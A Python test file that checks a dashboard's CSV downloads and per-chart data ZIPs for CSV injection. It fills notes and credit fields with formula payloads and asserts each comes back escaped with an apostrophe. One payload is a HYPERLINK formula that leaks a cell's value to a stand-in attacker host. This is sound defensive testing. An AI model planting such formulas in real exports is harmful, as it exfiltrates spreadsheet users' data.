"""No CSV the dashboard serves puts a live formula into a spreadsheet (CSV injection).

Figure files whose notes and credits ("attributed_to") begin with "=", "+", "-", "@", a tab or
a CR are built with the real ETL; the Data & sources download and every chart's data ZIP are
then read back with the csv module: a text cell starting with one of those characters must
carry the "'" of etl.csvsafe, and bound columns hold words, not "=".
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest

import etl
from dashboard import charts, ids
from dashboard.app import create_app
from etl.bounds import BOUNDS
from tests.dash_requests import callback_body

PAYLOADS = [
    '=HYPERLINK("http://attacker.test/?leak="&A1,"Click for details")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]
# The figure reader trims cells, so "\t=1+1" is kept as "=1+1": a formula all the same.
STORED = {p.strip() for p in PAYLOADS}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# A number as pandas writes it: a minus sign is fine there, the spreadsheet reads a number.
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?(e[+-]?[0-9]+)?")


def poison_notes(raw: Path) -> None:
    """Every figure's notes and credit become payloads, in turn, so each chart meets them.

    The credit reaches the outlook chart's rows; the notes reach the observations download.
    """
    for path in sorted((raw / "figures").glob("*.csv")):
        with path.open(newline="", encoding="utf-8") as file:
            reader = csv.DictReader(file)
            header, rows = reader.fieldnames, list(reader)
        for number, row in enumerate(rows):
            row["notes"] = PAYLOADS[number % len(PAYLOADS)]
            row["attributed_to"] = PAYLOADS[(number + 1) % len(PAYLOADS)]
        with path.open("w", newline="", encoding="utf-8") as file:
            writer = csv.DictWriter(file, fieldnames=header)
            writer.writeheader()
            writer.writerows(rows)


@pytest.fixture
def hostile_client(raw_dir: Path, tmp_path: Path):
    """The app over data built from figure files whose every note and credit is a formula."""
    poison_notes(raw_dir)
    out = tmp_path / "processed"
    result = etl.build(raw_dir, out)
    observations = result.tables["observations"]
    assert set(observations["notes"]) == set(observations["attributed_to"]) == STORED
    return create_app(out).server.test_client()


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def assert_no_formula(rows: list[dict[str, str]], where: str) -> None:
    for number, row in enumerate(rows, start=2):
        for column, cell in row.items():
            if cell.startswith(FORMULA_START):
                assert NUMBER.fullmatch(cell), f"{where} line {number}, {column}: {cell!r}"


def assert_bounds_are_words(rows: list[dict[str, str]], where: str) -> None:
    for column in [c for c in rows[0] if c == "bound" or c.endswith("_bound")]:
        assert {row[column] for row in rows} <= {*BOUNDS, ""}, f"{where}: {column}"


def test_download_all_figures_has_no_formula_cells(hostile_client):
    body = callback_body(
        hostile_client, ids.DATA_DOWNLOAD, {f"{ids.DATA_DOWNLOAD_BUTTON}.n_clicks": 1}
    )
    response = hostile_client.post("/_dash-update-component", json=body)
    assert response.status_code == 200
    sent = response.get_json()["response"][ids.DATA_DOWNLOAD]["data"]
    assert sent["filename"].endswith(".csv") and not sent["base64"]
    rows = read_csv(sent["content"])
    assert_no_formula(rows, "observations download")
    # Each payload is kept as typed, behind the one "'" a spreadsheet hides.
    assert {row["notes"] for row in rows} == {"'" + p for p in STORED}
    assert {row["attributed_to"] for row in rows} == {"'" + p for p in STORED}
    assert_bounds_are_words(rows, "observations download")
    assert {row["bound"] for row in rows} >= {"exact", "at_most", "at_least", "approximate"}


def test_every_chart_data_zip_has_no_formula_cells(hostile_client):
    payload_seen = []
    for spec in charts.CHARTS:
        response = hostile_client.get(f"/export/{spec.id}.zip")
        assert response.status_code == 200, spec.id
        with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
            (name,) = [n for n in archive.namelist() if n.endswith(".csv")]
            rows = read_csv(archive.read(name).decode("utf-8"))
        if not rows:
            continue
        assert_no_formula(rows, f"/export/{spec.id}.zip")
        assert_bounds_are_words(rows, f"/export/{spec.id}.zip")
        cells = {cell for row in rows for cell in row.values()}
        if cells & {"'" + p for p in STORED}:
            payload_seen.append(spec.id)
    # The check above must have met the notes somewhere, or it proves nothing.
    assert ids.OUTLOOK_VINTAGES in payload_seen, "its rows carry the credits"
